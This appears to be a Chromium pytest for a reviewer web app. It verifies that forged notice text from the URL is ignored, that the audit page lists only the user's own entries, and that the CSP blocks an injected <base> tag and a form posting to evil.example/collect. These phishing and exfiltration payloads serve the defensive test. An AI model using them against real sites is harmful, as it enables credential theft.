"""Security of the reviewer pages in real Chromium (issue 15 items 11, 12, 15): a reviewer's
audit page, notices that ignore text in the URL, and a CSP that stops <base> and foreign form
targets. Uses /usr/bin/chromium or skips (the conftest's browser_page).
"""

from __future__ import annotations

import httpx
import pytest

from groomwatch.serving.auth import add_user
from groomwatch.serving.db import Database

PASSWORD = "a long test password"
pytestmark = pytest.mark.browser  # the conftest's browser_page skips without Chromium


def _log_in(page, url: str, name: str) -> None:
    page.goto(f"{url}/login")
    page.fill("input[name=username]", name)
    page.fill("input[name=password]", PASSWORD)
    page.click("button[type=submit]")
    page.wait_for_url(f"{url}/")


def test_reviewer_pages_resist_forged_notices_foreign_forms_and_log_reading(start_server,
                                                                            browser_page):
    page = browser_page
    server = start_server()
    db = Database(server.db_url)
    add_user(db, "rita", "reviewer", PASSWORD)
    db.dispose()
    token = httpx.get(f"{server.url}/login").text.split('name="csrf" value="')[1].split('"')[0]
    httpx.post(f"{server.url}/login", cookies={"gw_login_csrf": token}, data={
        "username": "MyPasswordTypedAsName", "password": "x", "csrf": token})

    page.goto(f"{server.url}/login?error=Your+account+is+blocked,+call+555-0100")
    assert page.locator(".error").count() == 0 and "555-0100" not in page.content()
    _log_in(page, server.url, "rita")
    page.goto(f"{server.url}/?message=Security+alert:+re-enter+your+password+at+evil.example")
    assert page.locator(".notice").count() == 0 and "evil.example" not in page.content()
    page.goto(f"{server.url}/?message=empty")
    assert page.locator(".notice").inner_text() == "The queue is empty."

    page.goto(f"{server.url}/audit")
    who = page.locator("#audit tbody tr td:nth-child(3)").all_inner_texts()
    assert who and set(who) == {"rita"}
    assert "MyPasswordTypedAsName" not in page.content()
    assert page.locator("#own-entries").is_visible()

    violations = page.evaluate("""() => new Promise(resolve => {
        const seen = [];
        document.addEventListener('securitypolicyviolation',
                                  e => seen.push(e.effectiveDirective));
        const base = document.createElement('base');
        base.href = 'https://evil.example/';
        document.head.appendChild(base);
        const form = document.createElement('form');
        form.method = 'post';
        form.action = 'https://evil.example/collect';
        document.body.appendChild(form);
        form.submit();
        setTimeout(() => resolve(seen), 1000);
    })""")
    assert "base-uri" in violations and "form-action" in violations
    assert page.url.startswith(server.url)  # the foreign form never left the page
